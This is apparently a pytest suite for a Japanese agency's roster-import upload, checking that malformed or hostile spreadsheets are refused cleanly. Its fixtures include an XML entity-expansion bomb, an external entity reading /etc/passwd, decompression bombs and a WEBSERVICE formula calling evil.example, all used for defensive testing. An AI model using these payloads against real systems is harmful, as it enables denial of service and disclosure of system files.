"""Files that lie, swell or break: a clear word in Japanese, 422, and nothing changed."""

from __future__ import annotations

import io
import random
import time
import tracemalloc
import zipfile

from hypothesis import given, settings, strategies as st
import pytest

from agencies import columns, delimited, hints, rows, tables
from agencies.sheets import Unreadable
from core import languages
from tests.agencies import offices
from tests.wide import contents

DATABASES = ["sqlite"]  # pages and forms; what PostgreSQL alone refuses, the walks over every door and form find

KNOWN = {"障害": "DIS", "教育": "EDU"}
HEAD = [["機関名", "氏名", "電話"]]
RELATIONS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')


def remade(**parts) -> bytes:
    """An honest Excel file with some parts replaced, added, or taken out (None)."""
    honest, out = zipfile.ZipFile(io.BytesIO(offices.as_xlsx([*HEAD, ["福祉課", "山 花", "1"]]))), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name in {*honest.namelist(), *parts}:
            content = parts.get(name, honest.read(name) if name in honest.namelist() else None)
            if content is not None:
                file.writestr(name, content)
    return out.getvalue()


def sheet_of(*rows_xml: str) -> bytes:
    """An Excel file whose sheet holds just this XML."""
    return remade(**{"xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                     f'<sheetData>{"".join(rows_xml)}</sheetData></worksheet>'})


def formula(cached: str) -> bytes:
    cell = lambda at, text: f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'  # noqa: E731
    return sheet_of(f'<row r="1">{cell("A1", "機関名")}{cell("B1", "氏名")}</row>',
                    f'<row r="2">{cell("A2", "福祉課")}<c r="B2" t="str"><f>WEBSERVICE("http://evil.example/")</f>{cached}</c></row>')


BOMB = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + "".join(f"<!ENTITY {chr(98 + n)} '{'&' + chr(97 + n) + ';' * 1}'>" for n in range(9)) + "]>"
MANY = "行が5,000行を超えています"
HOSTILE = {
    "nothing": (b"", "何も書かれていません"),
    "blanks only": (b"\r\n \t\r\n", "何も書かれていません"),
    "an old Excel file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "古い形式のExcel"),
    "a PDF": (b"%PDF-1.7\n", "PDFか画像"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "PDFか画像"),
    "a web page": ("<html><table><tr><td>機関名".encode(), "ウェブページ"),
    "random bytes": (random.Random(1).randbytes(5_000), "文字を読み取れません"),
    "text with broken letters": ("機関名,氏名\n".encode() + b"\xff\xfe\xfa\x80\n" * 50, "文字を読み取れません"),
    "unbalanced quotes": ('機関名,氏名\n福祉課,"山\n税務課,川\n'.encode(), "引用符"),
    "a hundred thousand rows": (("機関名,氏名\n" + "a,b\n" * 100_000).encode(), MANY),
    "a hundred columns": (("機関名,氏名" + ",x" * 100).encode(), "列が60列を超えています"),
    "no headings": ("福祉課,山田,1\n税務課,鈴木,2\n".encode(), "見出しの行が見つかりません"),
    "a zip that is cut off": (offices.as_xlsx(HEAD)[:900], "壊れています"),
    "a zip of something else": (remade(**{"xl/workbook.xml": None}), "Excelのファイルではありません"),
    "macros": (remade(**{"xl/vbaProject.bin": b"x"}), "マクロ"),
    "entities": (remade(**{"xl/sharedStrings.xml": BOMB + "<sst/>"}), "表にはないはずのもの"),
    "entities in UTF-16": (remade(**{"xl/styles.xml": (BOMB + "<x/>").encode("utf-16")}), "表にはないはずのもの"),
    "an external entity": (remade(**{"xl/workbook.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}), "表にはないはずのもの"),
    "a decompression bomb": (remade(**{"xl/worksheets/sheet1.xml": b" " * 60_000_000}), "大きすぎるファイル"),
    "a bomb among the styles": (remade(**{"xl/styles.xml": b" " * 5_000_000}), "大きすぎるファイル"),
    "a thousand parts": (remade(**{f"xl/x{n}.xml": b"" for n in range(1_100)}), "大きすぎるファイル"),
    "no XML": (remade(**{"xl/worksheets/sheet1.xml": b"<<<"}), "壊れています"),
    "cells nowhere": (sheet_of('<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>'), "壊れています"),
    "a string that is not there": (sheet_of('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>'), "壊れています"),
    "rows without end": (sheet_of(*(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 6_000))), MANY),
    "one long text in every cell": (remade(**{
        "xl/sharedStrings.xml": f'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{"長" * 200_000}</t></si></sst>',
        "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + "".join(f'<row r="{n}">' + "".join(f'<c r="{c}{n}" t="s"><v>0</v></c>' for c in "ABCDEFGH") + "</row>" for n in range(1, 2_000)) + "</sheetData></worksheet>"}),
        "文字が多すぎます"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_that_is_no_roster_is_told_so_and_changes_nothing(world, name):
    content, told = HOSTILE[name]
    hanako = world.browser("hanako")
    before = contents(world.app)
    hanako.get("/agencies/import")
    answer = hanako.post("/agencies/import", file=(io.BytesIO(content), "構成員名簿.xlsx"))

    assert answer.status_code == 422
    assert told in answer.text
    assert "名簿は何も変わっていません" in answer.text
    assert contents(world.app) == before


@pytest.mark.parametrize("name", HOSTILE)
def test_no_file_takes_more_than_its_share_of_memory(name):
    content = HOSTILE[name][0]
    tracemalloc.start()
    try:
        with pytest.raises(Unreadable):
            sheets = tables.read(content)
            raise Unreadable("no heading") if not any(columns.found(each.rows) for each in sheets) else AssertionError(name)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert most < 150_000_000


def test_no_file_at_all_is_said(world):
    hanako = world.browser("hanako")
    hanako.get("/agencies/import")
    assert "ファイルを選んでください" in hanako.post("/agencies/import").text
    assert hanako.post("/agencies/import", file="just text").status_code == 422
    assert hanako.post("/agencies/import", file=(io.BytesIO(b"x"), "")).status_code == 422


def test_ten_megabytes_are_refused_kindly(world):
    hanako = world.browser("hanako")
    hanako.get("/agencies/import")
    answer = hanako.post("/agencies/import", file=(io.BytesIO(b"a,b\n" * 2_500_000), "名簿.csv"))

    assert answer.status_code == 413
    assert languages.catalogue("ja").gettext("That was too much at once.") in answer.text


def test_a_formula_gives_its_saved_value_and_never_itself():
    [sheet] = tables.read(formula("<v>山 花</v>"))
    assert sheet.rows == [["機関名", "氏名"], ["福祉課", "山 花"]]


def test_a_formula_saved_without_its_value_is_a_fault_of_its_row():
    [sheet] = tables.read(formula(""))
    [row] = rows.read(sheet, columns.found(sheet.rows), KNOWN).rows

    assert [(key, row.number) for key, _why in row.faults] == [("name", 2)]
    assert "数式" in row.faults[0][1]


def test_what_another_file_says_is_read_as_it_was_saved_and_nothing_is_fetched():
    content = remade(**{"xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'})
    assert tables.read(content)[0].rows[1] == ["福祉課", "山 花", "1"]


@pytest.mark.parametrize("cell, field, told", [
    ("a\x00b", "name", "保存できない文字"), ("a\u202eb", "name", "保存できない文字"), ("長" * 10_000, "name", "10,000文字"), ("山、川", "name", "2人以上"),
    ("#REF!", "name", "計算できていない"), ("x@", "email", "メールアドレス"), ("令和0年5月1日", "since", "実際にある日付"), ("12", "postal", "7桁"),
    ("長" * 81, "agency", "80文字"), ("長" * 2_000, "remarks", "400文字"),
])
def test_a_cell_that_cannot_be_kept_is_told_with_its_row_and_field(cell, field, told):
    titles = {"name": "氏名", "email": "メール", "since": "委嘱日", "postal": "郵便番号", "agency": "機関名", "remarks": "備考"}
    line = {"agency": "福祉課", "name": "山 花"} | {field: cell}
    table = delimited.gathered("x", [[titles[key] for key in line], list(line.values())])
    [row] = rows.read(table, columns.found(table.rows), KNOWN).rows

    assert row.number == 2
    assert row.faults[0][0] == field
    assert told in row.faults[0][1]


texts = st.text(max_size=12) | st.sampled_from(["機関名", "氏名", "電話", "〃", "同上", "未定", "計", "※注", "山田 太郎", "a@b.example", "R8.4.1", "#N/A", "'=1", "0" * 50])
grids = st.lists(st.lists(texts, max_size=6), max_size=12)


@settings(max_examples=150, deadline=None)
@given(grids)
def test_any_table_is_read_without_breaking(grid):
    sheet = delimited.gathered("x", [*HEAD, *grid])
    reading = rows.read(sheet, columns.found(sheet.rows, KNOWN), KNOWN, posts=True)

    for row in reading.rows:
        assert row.faults or (row.name and len(row.name) <= 80)
        assert row.person is None or row.faults or row.person["name"]
        assert 1 < row.number <= len(sheet.rows)
    assert {number for number, _text in reading.passed}.isdisjoint(row.number for row in reading.rows)


@settings(max_examples=150, deadline=None)
@given(grids)
def test_any_heading_is_matched_without_breaking(grid):
    found = columns.found(grid, KNOWN)
    used = [each for each in found.columns if each] if found else []
    assert len(used) == len(set(used))


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400) | st.binary(max_size=200).map(lambda rest: b"PK\x03\x04" + rest))
def test_any_bytes_are_a_table_or_said_to_be_none(content):
    try:
        sheets = tables.read(content)
    except Unreadable as fault:
        assert str(fault)
    else:
        assert all(isinstance(cell, str) for sheet in sheets for row in sheet.rows for cell in row)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(0, 255)), min_size=1, max_size=12))
def test_an_excel_file_with_any_bytes_changed_is_read_or_said_to_be_damaged(changes):
    content = bytearray(offices.as_xlsx(offices.CONTACTS))  # its length varies with the moment it is made
    for place, byte in changes:
        content[4 + int(place * (len(content) - 4))] = byte
    try:
        tables.read(bytes(content))
    except Unreadable as fault:
        assert str(fault)


def test_a_hint_is_found_in_reasonable_time_in_a_long_text():
    began = time.process_time()
    hints.domains("長" * 100_000)
    hints.kind("係" * 100_000)
    assert time.process_time() - began < 60  # it would take hours
